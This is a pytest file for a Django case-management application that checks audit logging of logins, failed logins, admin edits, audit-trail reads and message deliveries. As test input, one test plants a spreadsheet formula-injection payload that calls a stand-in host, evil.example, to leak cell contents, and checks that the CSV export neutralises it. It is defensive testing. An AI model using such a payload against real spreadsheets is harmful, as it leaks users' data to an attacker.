"""What used to leave no trace in the audit trail now does: logins (and refused ones), logouts,
Django-admin changes, reads of the audit trail itself, every case-list read, message deliveries
with the person who delivered them."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from accounts.models import Membership, User
from accounts.roles import Role
from audit.models import AuditEvent
from audit.services import audit_record, verify_chain
from cases import services as case_services
from tests.engine_models import publish_model
from tests.factories import api_client, login_with_second_factor, make_tenant, make_user

pytestmark = pytest.mark.django_db

ATTACKER_IP = "203.0.113.66"


def _last(**filters) -> AuditEvent:
    return AuditEvent.objects.filter(**filters).order_by("-id").first()


def test_a_login_is_audited_with_user_tenant_and_ip():
    tenant = make_tenant()
    user = make_user(tenant, Role.REGISTRAR)
    response = Client(REMOTE_ADDR="198.51.100.7").post("/accedi/", {"username": user.username, "password": "pw-test-123"})
    assert response.status_code == 302
    event = _last(action="login")
    assert event.actor_id == user.pk and event.tenant_id == tenant.pk and event.ip == "198.51.100.7"
    assert verify_chain().ok


def test_a_refused_login_is_audited_with_the_name_tried_and_the_ip():
    tenant = make_tenant()
    victim = make_user(tenant, Role.SUPERVISOR)
    client = Client(REMOTE_ADDR=ATTACKER_IP)
    # guessing the password of an existing account: the tenant of that account sees it
    assert client.post("/accedi/", {"username": victim.username, "password": "123456"}).status_code == 200
    # and a name that does not exist: the system chain
    assert client.post("/accedi/", {"username": "admin", "password": "admin"}).status_code == 200
    refused = list(AuditEvent.objects.filter(action="login_failed").order_by("id"))
    assert [(e.object_id, e.tenant_id, e.ip, e.actor_id) for e in refused] == [
        (victim.username, tenant.pk, ATTACKER_IP, None), ("admin", None, ATTACKER_IP, None),
    ]
    assert refused[1].chain_key == "system" and refused[1].extra == {"username": "admin", "known_user": False}
    assert "123456" not in str(refused[0].extra) + refused[0].summary  # never the password tried
    assert not AuditEvent.objects.filter(action="login").exists()


def test_a_logout_is_audited():
    tenant = make_tenant()
    user = make_user(tenant, Role.REGISTRAR)
    client = Client(REMOTE_ADDR="198.51.100.8")
    client.force_login(user)
    assert client.post("/esci/").status_code in (200, 302)
    event = _last(action="logout")
    assert event.actor_id == user.pk and event.tenant_id == tenant.pk and event.ip == "198.51.100.8"


def test_a_change_in_the_django_admin_is_audited_with_before_and_after():
    tenant = make_tenant("Comune di Prima")
    superuser = User.objects.create_superuser("root", "root@example.org", "pw-test-123")
    client = Client(REMOTE_ADDR="198.51.100.9")
    login_with_second_factor(client, superuser)  # superusers work only with a second factor
    form = {
        "name": "Comune di Dopo", "slug": tenant.slug, "istat_code": tenant.istat_code,
        "belfiore_code": tenant.belfiore_code, "patron_month": "", "patron_day": "", "is_active": "on",
    }
    response = client.post(f"/admin/accounts/tenant/{tenant.pk}/change/", form)
    assert response.status_code == 302, response.content[:2000]
    event = _last(action="update", object_type="accounts.tenant")
    assert event.tenant_id == tenant.pk and event.actor_id == superuser.pk and event.ip == "198.51.100.9"
    assert event.before["name"] == "Comune di Prima" and event.after["name"] == "Comune di Dopo"
    assert event.extra["via"] == "django-admin"
    # a membership granted and then deleted from the admin
    target = make_user(tenant)
    membership = Membership.objects.create(user=target, tenant=tenant, role=Role.REGISTRAR)
    assert client.post(f"/admin/accounts/user/{target.pk}/delete/", {"post": "yes"}).status_code == 302
    deleted = _last(action="delete", object_type="accounts.user")
    assert deleted.object_id == str(target.pk) and deleted.before["username"] == target.username
    assert deleted.before["password"] == "[omesso]"  # never the password hash
    assert not Membership.objects.filter(pk=membership.pk).exists()
    assert verify_chain().ok


def test_every_registered_admin_is_audited():
    from django.contrib import admin

    from audit.admin_site import AuditedModelAdminMixin

    assert admin.site.__class__.__name__ == "AuditedAdminSite"
    assert all(isinstance(model_admin, AuditedModelAdminMixin) for model_admin in admin.site._registry.values())


def test_reading_the_audit_trail_as_json_is_audited():
    tenant = make_tenant()
    supervisor = make_user(tenant, Role.SUPERVISOR)
    audit_record(tenant=tenant, actor=None, action="system", object_type="x", object_id="1")
    response = api_client(supervisor, tenant).get("/api/v1/audit/", {"object_type": "x"}, REMOTE_ADDR="198.51.100.10")
    assert response.status_code == 200 and response.json()["count"] == 1
    read = _last(action="read", object_type="audit")
    assert read.actor_id == supervisor.pk and read.tenant_id == tenant.pk and read.ip == "198.51.100.10"
    assert read.extra == {"filters": {"object_type": ["x"]}, "count": 1}
    # a refused reader leaves no read event (nothing was read)
    registrar = make_user(tenant, Role.REGISTRAR)
    assert api_client(registrar, tenant).get("/api/v1/audit/").status_code == 403
    assert not AuditEvent.objects.filter(object_type="audit", actor=registrar).exists()


def test_the_audit_csv_export_neutralises_formulas_typed_into_audited_text():
    tenant = make_tenant()
    supervisor = make_user(tenant, Role.SUPERVISOR)
    audit_record(tenant=tenant, actor=None, action="system", object_type="x", object_id="1",
                 summary='=HYPERLINK("http://evil.example/?"&A1)')
    response = api_client(supervisor, tenant).get("/api/v1/audit/?format=csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    summaries = [row["summary"] for row in rows if row["object_type"] == "x"]
    assert summaries == ['\'=HYPERLINK("http://evil.example/?"&A1)']


def test_the_case_list_page_is_audited_without_filters_too():
    tenant = make_tenant()
    user = make_user(tenant, Role.REGISTRAR)
    client = Client(REMOTE_ADDR="198.51.100.11")
    client.force_login(user)
    response = client.get("/pratiche/")
    assert response.status_code == 200
    read = _last(action="read", object_type="case_list")
    assert read.actor_id == user.pk and read.tenant_id == tenant.pk and read.ip == "198.51.100.11"


def test_the_case_list_api_and_its_export_are_audited():
    tenant = make_tenant()
    user = make_user(tenant, Role.REGISTRAR)
    client = api_client(user, tenant)
    assert client.get("/api/v1/cases/").status_code == 200
    assert client.get("/api/v1/cases/export/", {"format": "csv"}).status_code == 200
    assert AuditEvent.objects.filter(actor=user, action="read", object_type="case_list").count() == 1
    assert AuditEvent.objects.filter(actor=user, action="export", object_type="case_list").count() == 1


def test_a_message_delivery_is_audited_with_the_user_who_delivered_it():
    tenant = make_tenant()
    # The manifest lets a supervisor deliver it (a person may deliver only declared messages).
    publish_model("message_catch", manifest_extra={"messages": {"payment_received": ["supervisor"]}})
    supervisor = make_user(tenant, Role.SUPERVISOR)
    case = case_services.case_start(tenant=tenant, user=supervisor, process_id="message_catch", data={})
    caught = case_services.case_message_deliver(
        case=case, user=supervisor, message="payment_received", payload={"iuv": "1"}, ip="198.51.100.12",
    )
    assert caught == 1
    event = _last(object_type="case_message")
    assert event.actor_id == supervisor.pk and event.actor_username == supervisor.username
    assert event.ip == "198.51.100.12" and event.tenant_id == tenant.pk
    assert event.extra == {"message": "payment_received", "correlation_key": case.number, "caught": 1}
    assert event.after == {"iuv": "1"}


def test_an_admin_change_of_connector_credentials_is_audited_without_the_secrets():
    import json

    from connectors.models import ConnectorConfig

    tenant = make_tenant()
    superuser = User.objects.create_superuser("root", "root@example.org", "pw-test-123")
    client = Client()
    login_with_second_factor(client, superuser)  # superusers work only with a second factor
    row = ConnectorConfig.objects.create(tenant=tenant, platform="parer", credentials={"password": "vecchio-segreto"})
    response = client.post(f"/admin/connectors/connectorconfig/{row.pk}/change/", {
        "tenant": tenant.pk, "platform": "parer", "base_url": "https://parer.example.org", "settings": "{}",
        "is_active": "on", "new_credentials": '{"password": "nuovo-segreto"}',
    })
    assert response.status_code == 302
    event = _last(action="update", object_type="connectors.connectorconfig")
    assert event.tenant_id == tenant.pk and event.after["base_url"] == "https://parer.example.org"
    assert event.before["credentials"] == event.after["credentials"] == "[omesso]"
    recorded = json.dumps([event.before, event.after, event.extra, event.summary, event.object_repr])
    assert "segreto" not in recorded
